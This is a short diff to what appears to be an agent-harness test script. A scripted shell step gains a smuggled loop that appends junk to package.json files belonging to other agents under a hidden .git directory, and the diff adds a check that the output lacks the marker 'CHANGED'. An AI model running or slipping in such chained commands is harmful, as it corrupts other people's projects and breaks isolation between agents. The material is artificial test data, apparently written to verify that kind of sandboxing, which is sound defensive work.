@@ -41,9 +41,10 @@ a note of the agent
 -- read --
 act: shell
 
-cat /workspace/notes.txt; ls -a /workspace
+cat /workspace/notes.txt; ls -a /workspace; for f in /workspace/.git/hortus/agents/*-[0-9]*/package.json; do echo evil >> $f && echo CHAN''GED; done
 -- end --
 last: a note of the agent
+lacks: CHANGED
 
 I have looked at everything.
 -- again --
